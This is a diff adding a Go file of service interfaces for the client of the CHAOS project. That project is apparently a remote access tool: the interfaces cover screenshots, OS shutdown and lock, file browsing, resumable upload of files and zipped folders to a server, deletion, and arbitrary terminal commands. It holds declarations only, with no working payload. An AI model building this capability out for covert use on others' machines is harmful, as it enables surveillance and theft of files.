@@ -0,0 +1,89 @@
+package services
+
+import (
+	"context"
+	"io"
+
+	"github.com/tiagorlampert/CHAOS/client/app/entities"
+)
+
+// Services groups every capability the handler dispatches commands to. Every
+// method takes a context.Context so the handler can time out or cancel an
+// in-flight command (see Handler's per-command cancel channels).
+type Services struct {
+	Information InformationService
+	Screenshot  ScreenshotService
+	OS          OSService
+	Explorer    ExplorerService
+	Upload      UploadService
+	Download    DownloadService
+	Delete      DeleteService
+	URL         URLService
+	Terminal    TerminalService
+	Archive     ArchiveService
+}
+
+type InformationService interface {
+	LoadDeviceSpecs(ctx context.Context) (entities.DeviceSpecs, error)
+}
+
+type ScreenshotService interface {
+	TakeScreenshot(ctx context.Context) ([]byte, error)
+}
+
+type OSService interface {
+	Restart(ctx context.Context) error
+	Shutdown(ctx context.Context) error
+	Lock(ctx context.Context) error
+	SignOut(ctx context.Context) error
+}
+
+type ExplorerService interface {
+	ExploreDirectory(ctx context.Context, path string) (entities.Directory, error)
+}
+
+type UploadService interface {
+	UploadFile(ctx context.Context, path string) ([]byte, error)
+
+	// UploadFileChunked streams path to the server's blob endpoint, resuming
+	// from wherever the server last acknowledged if called again after a
+	// dropped connection, and reporting progress as it goes. It returns
+	// ctx.Err() as soon as ctx is cancelled or its deadline passes.
+	UploadFileChunked(ctx context.Context, path, macAddress string, onProgress func(entities.Progress)) ([]byte, error)
+
+	// UploadStreamChunked is UploadFileChunked for content that isn't a plain
+	// file on disk (e.g. a zip archive streamed straight off disk walking) -
+	// the total size isn't known up front, so chunks are sent with an open
+	// Content-Range total until a final, short chunk. If the content's length
+	// is an exact multiple of the chunk size, every chunk carries the open
+	// total.
+	UploadStreamChunked(ctx context.Context, r io.Reader, path, macAddress string, onProgress func(entities.Progress)) ([]byte, error)
+}
+
+type DownloadService interface {
+	DownloadFile(ctx context.Context, path string) ([]byte, error)
+
+	// DownloadFileChunked fetches remotePath into localPath using Range
+	// requests, resuming from a persisted offset after a dropped connection,
+	// and reporting progress as it goes. It returns ctx.Err() as soon as ctx
+	// is cancelled or its deadline passes.
+	DownloadFileChunked(ctx context.Context, remotePath, localPath, macAddress string, onProgress func(entities.Progress)) ([]byte, error)
+}
+
+type DeleteService interface {
+	DeleteFile(ctx context.Context, path string) error
+}
+
+type URLService interface {
+	OpenURL(ctx context.Context, address string) error
+}
+
+type TerminalService interface {
+	Run(ctx context.Context, command string) string
+}
+
+// ArchiveService streams a zip of one or more directory trees, for the
+// download-zip command.
+type ArchiveService interface {
+	StreamZip(ctx context.Context, paths []string, w io.Writer) error
+}